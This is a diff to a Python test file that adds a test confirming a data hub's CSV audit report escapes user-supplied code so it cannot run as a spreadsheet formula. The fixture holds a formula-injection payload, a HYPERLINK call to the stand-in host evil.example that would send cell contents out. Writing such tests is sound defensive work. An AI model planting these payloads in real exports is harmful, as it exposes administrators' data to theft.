@@ -6,6 +6,8 @@ The end-to-end path through the real hub and a real sandbox is in test_hub.py.
 """
 
 import asyncio
+import csv
+import io
 import json
 import os
 import signal
@@ -529,6 +531,20 @@ def test_report_formats(reported):
     assert render(rows, "csv", "syd").splitlines()[0].startswith("time,user,project,region,dataset")
     assert "syd-cohort" in render(rows, "table", "syd")
     assert "<table id='ngp-report'>" in render(rows, "html", "syd")
+
+
+def test_a_cells_code_cannot_become_a_formula_in_the_csv_report(reported):
+    """The code column is the member's own text; a region admin opens the CSV in a spreadsheet."""
+    alice = Caller("alice", "cardio-gwas")
+    code = '-1+0\n=HYPERLINK("http://evil.example/?" & A1)\nopen("/data/syd/syd-cohort/syd-cohort.vcf.gz")'
+    reported.audit.append_many(build_records(alice, [
+        {"action": "query.execute", "detail": {"msg_id": "m-csv", "code": code}},
+        {"action": "file.open", "path": "/data/syd/syd-cohort/syd-cohort.vcf.gz", "detail": {"msg_id": "m-csv"}}],
+        None))
+    rows = region_report(reported.audit, reported, "admin-syd", "syd")
+    (row,) = [r for r in csv.DictReader(io.StringIO(render(rows, "csv", "syd"))) if r["code"].endswith('.vcf.gz")')]
+    assert row["code"] == "'" + code and row["dataset"] == "syd-cohort"
+    assert [r["code"] for r in json.loads(render(rows, "json", "syd")) if r["code"] and "HYPERLINK" in r["code"]] == [code]
 
 
 def test_report_from_the_command_line(reported):
